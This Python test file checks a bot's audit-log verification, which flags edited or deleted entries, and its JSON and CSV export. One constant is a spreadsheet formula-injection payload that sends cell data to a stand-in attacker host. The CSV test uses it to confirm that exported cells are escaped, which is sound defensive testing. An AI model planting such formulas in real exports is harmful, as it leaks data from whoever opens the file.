"""`pimbot audit verify` and `pimbot audit export`, run as an operator runs them: a separate
process against the database a journey wrote."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sqlite3
import sys
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from tests.e2e.conftest import Sandbox
from tests.trust.journeys import pending_exchange_request

FORMULA_REASON = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@dataclass
class Run:
    code: int
    out: str
    err: str


async def pimbot(database: Path, *args: str) -> Run:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIMBOT_")}
    env["PIMBOT_DATABASE_URL"] = f"sqlite:///{database}"
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot",
        *args,
        cwd=database.parent,  # no stray .env
        env=env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await process.communicate()
    assert process.returncode is not None
    return Run(process.returncode, out.decode(), err.decode())


async def tamper(database: Path, statement: str) -> None:
    def run() -> None:
        with sqlite3.connect(database) as connection:
            connection.execute(statement)

    await asyncio.to_thread(run)


@pytest.fixture
async def journal(sandboxed: Sandbox, tmp_path: Path) -> Path:
    """The database after a request approved with a formula as its reason and another denied
    with one, as a mischievous approver could type them."""
    await pending_exchange_request(sandboxed)
    await sandboxed.person("megan").press("Approve", {"reason": FORMULA_REASON})
    await sandboxed.run_jobs()
    await sandboxed.person("alex").say("activate exchange admin for 1h because +1 for INC-3")
    await sandboxed.person("alex").press("Ask for approval")
    await sandboxed.run_jobs()
    await sandboxed.person("nestor").press("Deny", {"reason": "-1; @nestor says no"})
    return tmp_path / "pimbot.db"


async def test_verify_accepts_the_chain_a_journey_wrote(journal: Path) -> None:
    run = await pimbot(journal, "audit", "verify")

    assert run.code == 0, run.err
    assert run.out.startswith("OK: ")
    checked = int(run.out.split()[1])
    exported = await pimbot(journal, "audit", "export", "--format", "json")
    assert checked == len(exported.out.splitlines()) > 10


@pytest.mark.parametrize(
    ("statement", "problem"),
    [
        ("UPDATE audit_log SET reason = 'fine' WHERE action = 'request.approved'", "altered"),
        ("UPDATE audit_log SET actor_id = NULL WHERE action = 'request.denied'", "altered"),
        ("DELETE FROM audit_log WHERE action = 'request.denied'", "missing"),
        ("DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)", "missing"),
    ],
    ids=["reason edited", "actor erased", "denial deleted", "newest entry deleted"],
)
async def test_verify_fails_with_exit_1_on_a_tampered_log(
    journal: Path, statement: str, problem: str
) -> None:
    await tamper(journal, statement)

    run = await pimbot(journal, "audit", "verify")

    assert run.code == 1
    assert run.out.startswith("BROKEN: ")
    assert problem in run.out


async def test_json_export_is_the_log_as_stored(journal: Path) -> None:
    run = await pimbot(journal, "audit", "export", "--format", "json")

    assert run.code == 0, run.err
    records = [json.loads(line) for line in run.out.splitlines()]
    assert [r["id"] for r in records] == list(range(1, len(records) + 1))
    approved = next(r for r in records if r["action"] == "request.approved")
    assert approved["reason"] == FORMULA_REASON
    assert approved["details"]["role"] == "Exchange Administrator"
    assert all(r["hash"] and r["prev_hash"] for r in records)


async def test_csv_export_cannot_run_formulas_in_a_spreadsheet(journal: Path) -> None:
    run = await pimbot(journal, "audit", "export", "--format", "csv")

    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    reasons = {row["action"]: row["reason"] for row in rows}
    assert reasons["request.approved"] == "'" + FORMULA_REASON
    assert reasons["request.denied"] == "'-1; @nestor says no"
    assert rows[0]["id"] == "1" and rows[0]["details"].startswith("{")


async def test_export_since_leaves_older_entries_out(journal: Path) -> None:
    everything = await pimbot(journal, "audit", "export", "--format", "json")
    records = [json.loads(line) for line in everything.out.splitlines()]
    first_at = records[0]["at"]
    after_last = (datetime.fromisoformat(records[-1]["at"]) + timedelta(seconds=1)).isoformat()

    none = await pimbot(journal, "audit", "export", "--format", "json", "--since", after_last)
    all_again = await pimbot(journal, "audit", "export", "--format", "json", "--since", first_at)

    assert none.code == 0 and none.out == ""
    assert all_again.out == everything.out
